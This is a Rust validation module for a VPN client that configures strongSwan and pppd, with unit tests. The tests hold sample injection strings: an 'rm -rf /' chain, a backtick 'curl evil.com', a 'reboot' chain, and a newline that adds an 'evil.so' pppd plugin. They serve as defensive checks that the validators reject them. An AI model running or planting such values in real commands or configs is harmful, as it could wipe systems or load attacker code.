//! Input validation and sanitization
//!
//! Credentials end up inside quoted fields of strongSwan and pppd
//! configuration files and the server/interface names end up on `ip`
//! command lines, so everything is checked before the first side effect.

use crate::error::{L2tpError, L2tpResult};
use std::net::IpAddr;

/// Maximum length for interface names (Linux kernel limit is 15)
const MAX_INTERFACE_NAME_LEN: usize = 15;

/// Maximum length for error messages shown to users
const MAX_ERROR_MESSAGE_LEN: usize = 2000;

/// Validate interface name to prevent command injection
///
/// Interface names must be alphanumeric with optional dashes and underscores,
/// and no longer than 15 characters (Linux kernel limit)
pub fn validate_interface_name(name: &str) -> L2tpResult<()> {
    if name.is_empty() {
        return Err(L2tpError::InvalidParameter(
            "Interface name cannot be empty".to_string()
        ));
    }

    if name.len() > MAX_INTERFACE_NAME_LEN {
        return Err(L2tpError::InvalidParameter(
            format!("Interface name too long (max {} characters)", MAX_INTERFACE_NAME_LEN)
        ));
    }

    for c in name.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '_' {
            return Err(L2tpError::InvalidParameter(
                format!("Invalid interface name '{}': contains invalid character '{}'", name, c)
            ));
        }
    }

    // Would be read as an option by ip(8)
    if name.starts_with('-') {
        return Err(L2tpError::InvalidParameter(
            "Interface name cannot start with dash".to_string()
        ));
    }

    Ok(())
}

/// Validate a strongSwan connection name
///
/// The name is written after `conn` in ipsec.conf and matched in
/// `ipsec status` output, so whitespace and brackets are not allowed.
pub fn validate_connection_name(name: &str) -> L2tpResult<()> {
    if name.is_empty() {
        return Err(L2tpError::InvalidParameter(
            "Connection name cannot be empty".to_string()
        ));
    }

    for c in name.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '_' && c != '.' {
            return Err(L2tpError::InvalidParameter(
                format!("Invalid connection name '{}': contains invalid character '{}'", name, c)
            ));
        }
    }

    Ok(())
}

/// Require a non-empty input; `field` names it in the error
pub fn require_input(field: &str, value: &str) -> L2tpResult<()> {
    if value.trim().is_empty() {
        return Err(L2tpError::MissingInput(field.to_string()));
    }
    Ok(())
}

/// Validate a value that is written inside a quoted configuration field
///
/// Rejects control characters (a newline would start a new directive) and
/// double quotes (they would terminate the field early).
pub fn validate_config_value(field: &str, value: &str) -> L2tpResult<()> {
    if value.chars().any(|c| c.is_control()) {
        return Err(L2tpError::InvalidParameter(
            format!("{} contains invalid control characters", field)
        ));
    }

    if value.contains('"') {
        return Err(L2tpError::InvalidParameter(
            format!("{} cannot contain double quotes", field)
        ));
    }

    Ok(())
}

/// Validate the VPN server address (IP literal or hostname)
pub fn validate_hostname(host: &str) -> L2tpResult<()> {
    if host.is_empty() {
        return Err(L2tpError::InvalidParameter(
            "Hostname cannot be empty".to_string()
        ));
    }

    if host.len() > 253 {
        return Err(L2tpError::InvalidParameter(
            "Hostname too long".to_string()
        ));
    }

    if host.parse::<IpAddr>().is_ok() {
        return Ok(());
    }

    for c in host.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '.' {
            return Err(L2tpError::InvalidParameter(
                format!("Invalid hostname character: {}", c)
            ));
        }
    }

    if host.starts_with('-') || host.starts_with('.') ||
       host.ends_with('-') || host.ends_with('.') {
        return Err(L2tpError::InvalidParameter(
            "Invalid hostname format".to_string()
        ));
    }

    Ok(())
}

/// Trim long command output before it lands in an error message
pub fn sanitize_error_message(stderr: &str) -> String {
    let mut sanitized = stderr.trim().to_string();

    if sanitized.len() > MAX_ERROR_MESSAGE_LEN {
        let mut cut = MAX_ERROR_MESSAGE_LEN;
        while !sanitized.is_char_boundary(cut) {
            cut -= 1;
        }
        sanitized.truncate(cut);
        sanitized.push_str("... (truncated)");
    }

    sanitized
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_interface_name_validation() {
        assert!(validate_interface_name("ppp0").is_ok());
        assert!(validate_interface_name("eth0").is_ok());
        assert!(validate_interface_name("enp0s31f6").is_ok());

        // Command injection attempts
        assert!(validate_interface_name("ppp0; rm -rf /").is_err());
        assert!(validate_interface_name("eth0`curl evil.com`").is_err());
        assert!(validate_interface_name("eth0 && echo pwned").is_err());

        assert!(validate_interface_name("verylonginterfacename").is_err());
        assert!(validate_interface_name("-eth0").is_err());
        assert!(validate_interface_name("").is_err());
    }

    #[test]
    fn test_connection_name_validation() {
        assert!(validate_connection_name("L2TP-PSK").is_ok());
        assert!(validate_connection_name("corp-").is_ok());
        assert!(validate_connection_name("site_a.1").is_ok());

        assert!(validate_connection_name("").is_err());
        assert!(validate_connection_name("two words").is_err());
        assert!(validate_connection_name("vpn[1]").is_err());
    }

    #[test]
    fn test_require_input() {
        assert!(require_input("server", "vpn.example.com").is_ok());

        let err = require_input("psk", "").unwrap_err();
        assert!(matches!(err, L2tpError::MissingInput(ref f) if f == "psk"));
        assert!(require_input("username", "   ").is_err());
    }

    #[test]
    fn test_config_value_validation() {
        assert!(validate_config_value("password", "S3cure!p@ss w0rd").is_ok());
        assert!(validate_config_value("psk", "it's-fine").is_ok());

        // Would break out of the quoted field
        assert!(validate_config_value("password", "pa\"ss").is_err());
        // Would inject another pppd directive
        assert!(validate_config_value("username", "bob\nplugin evil.so").is_err());
        // Long keys are fine
        assert!(validate_config_value("psk", &"x".repeat(300)).is_ok());
    }

    #[test]
    fn test_hostname_validation() {
        assert!(validate_hostname("vpn.example.com").is_ok());
        assert!(validate_hostname("203.0.113.5").is_ok());
        assert!(validate_hostname("2001:db8::1").is_ok());

        assert!(validate_hostname("").is_err());
        assert!(validate_hostname("-invalid").is_err());
        assert!(validate_hostname("invalid.").is_err());
        assert!(validate_hostname("host name").is_err());
        assert!(validate_hostname("host;reboot").is_err());
    }

    #[test]
    fn test_sanitize_error_message() {
        assert_eq!(sanitize_error_message("  oops\n"), "oops");

        let long = "é".repeat(MAX_ERROR_MESSAGE_LEN);
        let sanitized = sanitize_error_message(&long);
        assert!(sanitized.ends_with("... (truncated)"));
        assert!(sanitized.len() <= MAX_ERROR_MESSAGE_LEN + "... (truncated)".len());
    }
}
